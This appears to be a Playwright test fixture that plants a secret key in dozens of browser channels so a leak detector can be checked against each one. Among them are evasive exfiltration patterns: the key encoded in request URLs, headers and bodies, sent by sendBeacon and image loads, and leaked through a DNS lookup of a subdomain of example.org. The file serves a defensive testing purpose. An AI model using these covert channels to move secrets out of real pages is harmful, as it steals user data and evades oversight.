import type { Page } from '@playwright/test';
import { guidePath } from '../site.ts';

/** Each puts a secret where none may be, and names the place where the watcher must find it. */
export const plantedLeaks: Readonly<
	Record<string, readonly [string, (page: Page, key: string) => Promise<unknown>]>
> = {
	'a request’s address': ['requests', (page, key) => page.evaluate((k) => fetch(`/?k=${k}`), key)],
	'a piece of six characters in an address': [
		'requests',
		(page, key) => page.evaluate((k) => fetch(`/${k.slice(9, 13)}${k.slice(14, 16)}.png`), key),
	],
	'an address, backwards': [
		'requests',
		(page, key) => page.evaluate((k) => fetch(`/?${[...k].reverse().join('')}`), key),
	],
	'base64 in a header': [
		'requests',
		(page, key) => page.evaluate((k) => fetch('/', { headers: { 'X-A': btoa(`a=${k}`) } }), key),
	],
	'hexadecimal digits in a body': [
		'requests',
		(page, key) =>
			page.evaluate((k) => {
				const body = [...k].map((each) => each.charCodeAt(0).toString(16)).join('');
				return fetch('/', { method: 'POST', body });
			}, key),
	],
	'a body in upper case without dashes': [
		'requests',
		(page, key) =>
			page.evaluate((k) => {
				navigator.sendBeacon('/', k.replaceAll('-', '').toUpperCase());
			}, key),
	],
	'a picture’s address': [
		'requests',
		(page, key) => page.evaluate((k) => void (new Image().src = `/a.png?${k}`), key),
	],
	'a name to look up': [
		'network log',
		async (page, key) => {
			await page.goto(`http://${key}.example.org/`).catch(() => undefined);
			await page.waitForURL('chrome-error://**');
			await page.goto(guidePath);
		},
	],
	'local storage': [
		'local storage',
		(page, key) => page.evaluate((k) => localStorage.setItem('a', k), key),
	],
	'local storage, for a moment': [
		'storage call',
		(page, key) =>
			page.evaluate((k) => {
				localStorage.setItem('b', encodeURIComponent(encodeURIComponent(`{"a":"${k}"}`)));
				localStorage.removeItem('b');
			}, key),
	],
	'session storage': [
		'session storage',
		(page, key) => page.evaluate((k) => sessionStorage.setItem('a', btoa(k)), key),
	],
	'a cookie': [
		'cookies',
		(page, key) => page.evaluate((k) => void (document.cookie = `a=${k}`), key),
	],
	IndexedDB: [
		'IndexedDB',
		(page, key) =>
			page.evaluate(
				(k) =>
					new Promise<void>((resolve) => {
						const opening = indexedDB.open('a');
						opening.onupgradeneeded = () => opening.result.createObjectStore('b');
						opening.onsuccess = () => {
							const writing = opening.result.transaction('b', 'readwrite');
							writing.objectStore('b').put({ k }, 1);
							writing.oncomplete = () => {
								opening.result.close();
								resolve();
							};
						};
					}),
				key
			),
	],
	'cache storage': [
		'cache storage',
		(page, key) =>
			page.evaluate(
				async (k) => (await caches.open('a')).put('/a', new Response(`<p>${k}</p>`)),
				key
			),
	],
	'the title': ['title', (page, key) => page.evaluate((k) => void (document.title = k), key)],
	'window.name': ['window.name', (page, key) => page.evaluate((k) => void (window.name = k), key)],
	'a global': [
		'globals',
		(page, key) => page.evaluate((k) => void Reflect.set(globalThis, 'a', k), key),
	],
	'the console': ['console', (page, key) => page.evaluate((k) => console.log('%s', k), key)],
	'an error': [
		'console',
		(page, key) =>
			page.evaluate(
				(k) =>
					void setTimeout(() => {
						throw new Error(k);
					}),
				key
			),
	],
	'a history entry': [
		'history entries',
		(page, key) => page.evaluate((k) => history.pushState({}, '', `#${k}`), key),
	],
	'a history state': [
		'history state',
		(page, key) => page.evaluate((k) => history.replaceState({ k }, ''), key),
	],
	'a message': ['message', (page, key) => page.evaluate((k) => postMessage({ k }, '*'), key)],
	'a message from the frame': [
		'message',
		(page, key) =>
			page
				.frameLocator('iframe')
				.locator('body > div')
				.evaluate((_, k) => parent.postMessage({ type: 'x', k }, '*'), key),
	],
	'a broadcast': [
		'broadcast',
		(page, key) => page.evaluate((k) => new BroadcastChannel('a').postMessage(k), key),
	],
	'a performance entry': [
		'performance',
		(page, key) => page.evaluate((k) => void performance.mark(k), key),
	],
	'an attribute': [
		'elements',
		(page, key) => page.evaluate((k) => document.body.setAttribute('data-a', k), key),
	],
	'an entity in a text': [
		'text',
		(page, key) => page.evaluate((k) => document.body.append(`“${k.slice(3, 12)}”`), key),
	],
	'a text cut by elements': [
		'text',
		(page, key) =>
			page.evaluate(
				(k) =>
					document.body.append(
						...[...k].map((each) =>
							Object.assign(document.createElement('b'), { textContent: each })
						)
					),
				key
			),
	],
	'a shadow tree': [
		'elements',
		(page, key) =>
			page.evaluate((k) => {
				const host = document.body.appendChild(document.createElement('div'));
				host.attachShadow({ mode: 'open' }).append(k);
			}, key),
	],
	'a field of the page': [
		'fields',
		(page, key) =>
			page.evaluate((k) => {
				document.body.appendChild(document.createElement('input')).value = k;
			}, key),
	],
	'the accessibility tree': [
		'accessibility',
		(page, key) =>
			page.evaluate(
				(k) => document.querySelector('main')?.setAttribute('aria-description', k),
				key
			),
	],
	'another window': [
		'window opened',
		async (page, key) => {
			const opened = page.waitForEvent('popup');
			await page.evaluate((k) => void open(`about:blank#${k}`), key);
			await (await opened).close();
		},
	],
	'a download': [
		'downloads',
		(page, key) =>
			page.evaluate((k) => {
				const href = URL.createObjectURL(new Blob([`a\n${k}`]));
				Object.assign(document.createElement('a'), { href, download: 'a.txt' }).click();
			}, key),
	],
	'a field that the browser remembers': [
		'profile on disk',
		async (page, key) => {
			await page.evaluate(() => {
				document.querySelector('main')?.prepend(document.createElement('textarea'));
			});
			await page.locator('main > textarea').fill(key);
			await page.goto(guidePath);
		},
	],
	'the profile': [
		'profile on disk',
		(page, key) => page.goto(`/?later=${key}`).then(() => page.goto(guidePath)),
	],
};
